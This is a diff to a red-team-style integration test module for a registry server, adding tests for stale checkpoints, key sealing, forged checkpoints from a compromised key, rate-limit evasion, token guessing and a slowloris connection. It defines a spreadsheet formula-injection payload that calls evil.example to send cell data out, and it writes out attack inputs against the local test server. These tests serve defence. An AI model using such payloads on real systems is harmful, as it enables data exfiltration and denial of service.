@@ -1,26 +1,39 @@
 """Issue 15, red-team style: each attack performed end to end against a real `registry serve`
-process, on both backends where the store is involved."""
+process, on both backends where the store is involved.
+
+Elsewhere, because they need what this module must not do: item 9, the PostgreSQL outage
+against a real server (`test_faults.py`: it cuts the database's connections); item 7, an
+idle checkpoint refreshed and a public GET that writes nothing (`test_maintenance.py`: it
+needs a clock moved by hand)."""
 
 import base64
 import io
 import json
+import socket
+import subprocess
+import sys
 from collections.abc import Iterator
 from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import httpx
 import openpyxl
 import pytest
 import rfc8785
+from jwcrypto import jwk
 from pydantic import SecretStr
 
 from registry.application import open_registry
+from registry.at_rest import key_path, open_key
 from registry.settings import Settings
-from registry.signing import open_keys
+from registry.signing import CHECKPOINT_TYP, open_keys, sign_detached_with
 from registry.tokens import create_token, revoke_tokens
+from registry.transparency import checkpoint_payload
 from tests.api.conftest import PASSPHRASE, body
 from tests.examples import HOLDER, issue_request
-from tests.processes import cli, server
+from tests.integration.test_secrets import pkcs12_info
+from tests.processes import cli, server, settings_env
 
 REVOCATION = {"reason": "k", "details": "主动", "effective_date": "2026-09-01"}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -31,6 +44,7 @@ class Target:
     base: str
     settings: Settings
     tokens: dict[str, str]
+    kid: str
 
     def auth(self, role: str) -> dict[str, str]:
         return {"Authorization": f"Bearer {self.tokens[role]}"}
@@ -57,14 +71,32 @@ def target(durable_database_url: str, tmp_path: Path) -> Iterator[Target]:
         key_passphrase=SecretStr(PASSPHRASE),
         rate_limit=0,
     )
+    yield from serve(settings)
+
+
+@pytest.fixture
+def exposed(tmp_path: Path) -> Iterator[Target]:
+    """For attacks on the HTTP server itself (the store plays no part): SQLite, the rate
+    limit on, a short header deadline."""
+    settings = Settings(
+        database_url=f"sqlite:///{tmp_path / 'registry.sqlite'}",
+        keys_dir=tmp_path / "keys",
+        key_passphrase=SecretStr(PASSPHRASE),
+        rate_limit=3,
+        header_timeout=1,
+    )
+    yield from serve(settings)
+
+
+def serve(settings: Settings) -> Iterator[Target]:
     with open_registry(settings) as registry:
-        open_keys(registry, settings).generate()
+        kid = open_keys(registry, settings).generate()
         tokens = {
             role: create_token(registry, name=role, role=role)
             for role in ("registrar", "regulator")
         }
     with server(settings) as base:
-        yield Target(base, settings, tokens)
+        yield Target(base, settings, tokens, kid)
 
 
 def revoked_certificate(target: Target) -> str:
@@ -103,6 +135,39 @@ def test_a_revoked_row_set_to_valid_gets_no_valid_receipt_and_fails_the_audit(
 # 2. Checkpoints deleted with the event they covered ------------------------------------------
 
 
+def audit_later(target: Target, hours: float, *args: str) -> subprocess.CompletedProcess[str]:
+    """`registry audit verify ARGS` run with its wall clock `hours` on (tests/clock), as an
+    auditor would find a copy the server stopped refreshing: its checkpoints go stale."""
+    later = (datetime.now(UTC) + timedelta(hours=hours)).isoformat()
+    return subprocess.run(
+        [sys.executable, "-m", "registry.cli", "audit", "verify", *args],
+        capture_output=True,
+        text=True,
+        env={
+            "PATH": "/usr/bin:/bin",
+            "PYTHONPATH": str(Path(__file__).parents[1] / "clock"),
+            "HUNT_CLOCK": later,
+            **settings_env(target.settings),
+        },
+        timeout=120,
+        check=False,
+    )
+
+
+def test_a_copy_left_two_hours_without_a_fresh_checkpoint_fails_the_audit_by_default(
+    target: Target,
+) -> None:
+    target.issue()
+    httpx.get(f"{target.base}/api/v1/regulator/feed", headers=target.auth("regulator"))
+
+    stale = audit_later(target, 2)
+    widened = audit_later(target, 2, "--max-age", "10800")
+
+    assert stale.returncode == 1
+    assert "older than the 3600 s (1 h) allowed" in stale.stderr
+    assert widened.returncode == 0, widened.stderr
+
+
 def test_a_revoked_token_brought_back_with_the_checkpoints_deleted_fails_the_audit(
     target: Target,
 ) -> None:
@@ -123,6 +188,56 @@ def test_a_revoked_token_brought_back_with_the_checkpoints_deleted_fails_the_aud
 
     assert audit.returncode == 1
     assert audit.stderr.startswith("registry: NOT intact")
+
+
+# 5. Keys at rest ----------------------------------------------------------------------------
+
+
+def test_the_served_key_is_sealed_at_600000_rounds_and_a_short_passphrase_makes_none(
+    exposed: Target,
+) -> None:
+    short = exposed.settings.model_copy(
+        update={
+            "key_passphrase": SecretStr("13th-guess"),
+            "keys_dir": exposed.settings.keys_dir.parent / "new-keys",
+        }
+    )
+
+    sealed = pkcs12_info(key_path(exposed.settings.keys_dir, exposed.kid))
+    refused = cli(short, "keys", "generate")
+
+    assert "PBKDF2, AES-256-CBC, Iteration 600000" in sealed
+    assert refused.returncode != 0
+    assert refused.stderr.startswith("registry: ")
+    assert "shorter than 12" in refused.stderr
+
+
+# 6. A stolen key signing after it was marked compromised ----------------------------------
+
+
+def test_a_checkpoint_signed_with_a_compromised_key_fails_the_audit(target: Target) -> None:
+    target.issue()
+    served = httpx.get(f"{target.base}/api/v1/audit/checkpoint").json()
+    assert cli(target.settings, "keys", "rotate").returncode == 0
+    assert cli(target.settings, "keys", "compromised", target.kid).returncode == 0
+    private = open_key(key_path(target.settings.keys_dir, target.kid), PASSPHRASE.encode())
+    assert private is not None
+    stolen = jwk.JWK.from_pyca(private)
+    later = datetime.now(UTC).isoformat()  # after the marking
+    forged = {"size": served["size"], "root": served["root"], "timestamp": later}
+    forged |= {
+        "kid": target.kid,
+        "signature": sign_detached_with(
+            checkpoint_payload(served["size"], served["root"], later), stolen, CHECKPOINT_TYP
+        ),
+    }
+    held = target.settings.keys_dir.parent / "forged-checkpoint.json"
+    held.write_text(json.dumps(forged))
+
+    audit = cli(target.settings, "audit", "verify", "--checkpoint", str(held))
+
+    assert audit.returncode == 1
+    assert "the held checkpoint: signed by a key after it was marked compromised" in audit.stderr
 
 
 # 3. Formula injection ----------------------------------------------------------------------
@@ -179,6 +294,41 @@ def test_two_empty_reports_carry_manifests_naming_their_months(target: Target) -
     )
 
 
+# 8. Availability ------------------------------------------------------------------------
+
+
+def test_a_forged_x_forwarded_for_does_not_escape_the_rate_limit(exposed: Target) -> None:
+    answers = [
+        httpx.get(f"{exposed.base}/api/v1/clauses", headers={"X-Forwarded-For": f"10.9.9.{n}"})
+        for n in range(4)  # the start-up probe took one of the 3 a minute too
+    ]
+
+    assert answers[-1].status_code == 429
+
+
+def test_guessing_tokens_is_held_back_before_a_right_one_is_even_looked_at(
+    exposed: Target,
+) -> None:
+    feed = f"{exposed.base}/api/v1/regulator/feed"
+    for n in range(10):
+        httpx.get(feed, headers={"Authorization": f"Bearer crt_guess-{n}"})
+
+    held = httpx.get(feed, headers=exposed.auth("regulator"))
+
+    assert held.status_code == 429
+    assert int(held.headers["retry-after"]) >= 1
+
+
+def test_a_slowloris_connection_is_answered_408_and_cut_off(exposed: Target) -> None:
+    host, port = exposed.base.removeprefix("http://").split(":")
+    with socket.create_connection((host, int(port))) as slow:
+        slow.settimeout(60)  # a safety net: the server cuts it after a second
+        slow.sendall(b"GET /api/v1/clauses HTTP/1.1\r\nHost: registry\r\nX-Slo")
+        answer = slow.recv(4096)
+
+    assert answer.startswith(b"HTTP/1.1 408 ")
+
+
 # 11 and 12. Input and exposure ---------------------------------------------------------------
 
 
@@ -212,3 +362,18 @@ def test_the_server_answers_without_banner_cacheable_secrets_or_host_redirects(
     assert "server" not in audit.headers
     assert audit.headers["cache-control"] == "no-store"
     assert redirect.headers["location"] == "/api/v1/clauses"
+
+
+def test_two_token_creations_racing_for_one_name_leave_one(target: Target) -> None:
+    command = [sys.executable, "-m", "registry.cli", "token", "create", "--role", "registrar"]
+    env = {"PATH": "/usr/bin:/bin", **settings_env(target.settings)}
+    racers = [
+        subprocess.Popen(
+            [*command, "--name", "carol"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
+        )
+        for _ in range(2)
+    ]
+    outcomes = sorted((p.wait(timeout=120), p.stderr.read() if p.stderr else b"") for p in racers)
+
+    assert [code for code, _ in outcomes] == [0, 2]
+    assert outcomes[1][1].startswith(b"registry: a live token is already named 'carol'")
